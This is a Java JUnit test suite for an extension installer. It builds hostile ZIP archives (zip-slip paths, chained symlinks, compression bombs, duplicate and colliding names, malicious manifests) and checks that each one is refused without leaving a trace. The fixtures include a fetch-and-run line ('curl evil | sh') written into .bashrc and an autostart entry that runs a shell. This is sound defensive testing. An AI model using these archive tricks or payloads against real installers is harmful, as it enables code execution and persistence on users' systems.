package dev.symphony.kernel.extensions;

import dev.symphony.kernel.cli.ExtCommand;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.*;

/**
 * Hostile archives against the installer, each checked by a before/after listing of a decoy home
 * folder that holds Symphony's own folder: every case must be refused, and a refusal leaves no
 * trace (not even an empty staging folder). The archives are what an attacker would build
 * ({@link HostileZip}); the installer runs with small caps so a bomb is cheap to build.
 */
class RedTeamTest {
    static final String MANIFEST = ArchiveInstallerTest.MANIFEST;
    static final ArchiveRules.Limits SMALL = new ArchiveRules.Limits(1 << 20, 50, 64 << 10);

    @TempDir
    Path tmp;
    DecoyHome home;
    Map<String, String> before;

    @BeforeEach
    void decoy() throws IOException {
        home = DecoyHome.create(tmp.resolve("home"));
        before = home.listing();
    }

    ArchiveInstaller installer() {
        return new ArchiveInstaller(new ExtensionStore(home.symphonyHome().resolve("data/extensions")), SMALL);
    }

    /** Installs {@code zip} as a user who approves everything; returns the refusal and checks nothing changed. */
    InstallException refusedWithoutTrace(HostileZip zip, String expected) throws IOException {
        Path archive = zip.write(home.downloads().resolve("hostile.zip"));
        InstallException e = assertThrows(InstallException.class, () -> {
            ArchiveInstaller installer = installer();
            installer.commit(installer.prepare(archive, null));
        });
        assertEquals(2, e.exitCode(), e.getMessage());
        assertTrue(e.getMessage().contains(expected), "expected '" + expected + "' in: " + e.getMessage());
        assertEquals(before, home.listing(), "the decoy home is unchanged");
        return e;
    }

    HostileZip withManifest() {
        return new HostileZip().file("symphony-extension.json", MANIFEST);
    }

    /** Hostile manifests: each refused at install with a message naming the problem, leaving no trace. */
    @org.junit.jupiter.api.TestFactory
    java.util.stream.Stream<org.junit.jupiter.api.DynamicTest> hostileManifestsAreRefusedWithoutTrace() {
        String nested = "[".repeat(20_000) + "]".repeat(20_000);
        return java.util.stream.Stream.of(
                new String[] {"id climbing out of the store", MANIFEST.replace("dev.example.ok", "../../.config/autostart"), "id"},
                new String[] {"absolute id", MANIFEST.replace("dev.example.ok", "/tmp/evil"), "id"},
                new String[] {"not JSON", "\u0000\u00ff{{{", "manifest"},
                new String[] {"nesting meant to exhaust the parser's stack", MANIFEST.replace("\"permissions\": {}",
                        "\"permissions\": {}, \"x\": " + nested), "manifest"},
                new String[] {"a second permissions object after the one a reviewer reads",
                        MANIFEST.replace("\"permissions\": {}", "\"permissions\": {}, \"permissions\": {\"processes\": true}"), "Duplicate field"},
                new String[] {"a capability name with path characters", MANIFEST.replace("\"name\": \"a\"", "\"name\": \"../../a\""), "name"})
                .map(c -> org.junit.jupiter.api.DynamicTest.dynamicTest(c[0], () -> {
                    before = home.listing();
                    refusedWithoutTrace(new HostileZip().file("symphony-extension.json", c[1]), c[2]);
                }));
    }

    @Test
    void chainedSymbolicLinksCannotReachTheAutostartFolder() throws IOException {
        // Each link passes a text-only check of its own target; together they climb to the home folder.
        HostileZip zip = withManifest().link("x/l1", "..");
        String path = "x/l1";
        for (int i = 2; i <= 5; i++) {
            path += "/l" + i;
            zip.link(path, "..");
        }
        zip.file(path + "/.config/autostart/evil.desktop", "[Desktop Entry]\nExec=sh -c pwned\n");
        refusedWithoutTrace(zip, "symbolic link");
    }

    @Test
    void aLinkToAFileInsideTheFolderIsRefusedToo() throws IOException {
        refusedWithoutTrace(withManifest().file("a.txt", "a").link("b.txt", "a.txt"), "symbolic link");
    }

    @Test
    void zipSlipIsRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("../../../.bashrc", "curl evil | sh\n"), "escapes the extension folder");
        refusedWithoutTrace(withManifest().file("classes/../../x", "x"), "escapes the extension folder");
        refusedWithoutTrace(withManifest().renamed("classes/aa/bb/x", "classes\\..\\..\\x", "x"), "not allowed");
    }

    @Test
    void absolutePathsAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("/tmp/evil", "x"), "absolute path");
        refusedWithoutTrace(withManifest().file("C:/Users/evil", "x"), "absolute path");
    }

    @Test
    void nonCanonicalAndReservedNamesAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("classes//x", "x"), "not a canonical path");
        refusedWithoutTrace(withManifest().file("./x", "x"), "not a canonical path");
        refusedWithoutTrace(withManifest().file("lib/con.txt", "x"), "reserves");
        refusedWithoutTrace(withManifest().renamed("lib/a0b", "lib/a\u0000b", "x"), "not allowed");
    }

    @Test
    void devicesAndPipesAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().special("dev/tty", HostileZip.CHAR_DEVICE), "not a plain file");
        refusedWithoutTrace(withManifest().special("fifo", HostileZip.FIFO), "not a plain file");
    }

    @Test
    void duplicateNamesAreRefused() throws IOException {
        // the second copy would replace the first after it was inspected (java.util.zip reads one of them)
        refusedWithoutTrace(withManifest().file("lib/a.jar", "good").renamed("lib/b.jar", "lib/a.jar", "evil"), "appears twice");
        refusedWithoutTrace(new HostileZip().file("symphony-extension.json", MANIFEST)
                .renamed("symphony-extension.jsoX", "symphony-extension.json", MANIFEST.replace("{}}", "{\"processes\": true}}")), "appears twice");
    }

    @Test
    void namesCollidingOnACaseInsensitiveDiskAreRefused() throws IOException {
        refusedWithoutTrace(withManifest().file("lib/Plugin.jar", "a").file("lib/plugin.JAR", "b"), "letter case");
        refusedWithoutTrace(withManifest().file("lib/\u00e9.txt", "a").file("lib/e\u0301.txt", "b"), "Unicode form");
    }

    @Test
    void aFileCannotAlsoBeAFolder() throws IOException {
        refusedWithoutTrace(withManifest().file("lib", "x").file("lib/a.jar", "y"), "which is a file");
    }

    @Test
    void aCompressionBombStopsAtTheCapWhileInflating() throws IOException {
        byte[] zeros = new byte[32 << 20]; // deflates to ~32 KB; its record claims 1 KB
        InstallException e = refusedWithoutTrace(withManifest().lyingFile("lib/bomb.bin", zeros, 1024), "more than 1 MB");
        assertTrue(e.getMessage().contains("stopped inside lib/bomb.bin"), e.getMessage());
    }

    @Test
    void declaredSizesOverTheCapAreRefusedBeforeInflating() throws IOException {
        refusedWithoutTrace(withManifest().lyingFile("lib/big.bin", new byte[10], 2L << 20), "declares more than 1 MB");
    }

    @Test
    void tooManyEntriesAreRefused() throws IOException {
        HostileZip zip = withManifest();
        for (int i = 0; i < 60; i++) {
            zip.file("lib/f" + i, "x");
        }
        refusedWithoutTrace(zip, "more than the 50 allowed");
    }

    @Test
    void anOversizedManifestIsRefused() throws IOException {
        refusedWithoutTrace(new HostileZip().file("symphony-extension.json", " ".repeat(100_000) + MANIFEST), "more than 65536 bytes");
    }

    @Test
    void theCopyNeverWritesPastItsBudget() {
        ByteArrayOutputStream sink = new ByteArrayOutputStream();
        assertThrows(InstallException.class, () -> SafeUnpacker.copy(new java.io.InputStream() {
            @Override
            public int read() {
                return 0;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                return len; // an endless stream of zeros
            }
        }, sink, 100_000, "a.zip", "e", 100_000));
        assertTrue(sink.size() > 0 && sink.size() <= 100_000, "the sink got at most the budget: " + sink.size());
    }

    @Test
    void nothingIsUnpackedBeforeApprovalAndARefusedPromptLeavesNoTrace() throws IOException {
        Path archive = withManifest().file("classes/x.txt", "x").write(home.downloads().resolve("ok.zip"));
        ArchiveInstaller installer = installer();
        ArchiveInstaller.Prepared prepared;
        try {
            prepared = installer.prepare(archive, null);
        } catch (InstallException e) {
            throw new AssertionError(e);
        }
        assertTrue(home.listing().keySet().stream().noneMatch(p -> p.endsWith("x.txt")), "nothing unpacked while the user is asked");
        installer.abort(prepared);
        assertEquals(before, home.listing(), "an aborted install leaves no trace");
    }

    @Test
    void answeringNoAtTheCliPromptLeavesNoTrace() throws IOException {
        String previous = System.getProperty("symphony.home");
        System.setProperty("symphony.home", home.symphonyHome().toString());
        try {
            PrintStream quiet = new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8);
            ExtCommand.run(new String[]{"list"}, quiet, quiet); // the kernel's own folders exist from here on
            Map<String, String> started = home.listing();
            Path archive = withManifest().write(home.downloads().resolve("ok.zip"));
            ByteArrayOutputStream err = new ByteArrayOutputStream();
            int code = ExtCommand.run(new String[]{"install", archive.toString(), "--allow-unsigned"}, quiet, new PrintStream(err, true, StandardCharsets.UTF_8),
                    () -> new BufferedReader(new StringReader("no\n")));
            assertEquals(1, code, err.toString(StandardCharsets.UTF_8));
            assertTrue(err.toString(StandardCharsets.UTF_8).contains("not approved"), err.toString(StandardCharsets.UTF_8));
            assertEquals(withoutLogs(started), withoutLogs(home.listing()), "answering no leaves no trace");
        } finally {
            if (previous == null) {
                System.clearProperty("symphony.home");
            } else {
                System.setProperty("symphony.home", previous);
            }
        }
    }

    /** The kernel's own audit and log files grow with every command; they are not the extension's doing. */
    private static Map<String, String> withoutLogs(Map<String, String> listing) {
        listing.keySet().removeIf(p -> p.contains("/audit/") || p.contains("/logs/"));
        return listing;
    }
}
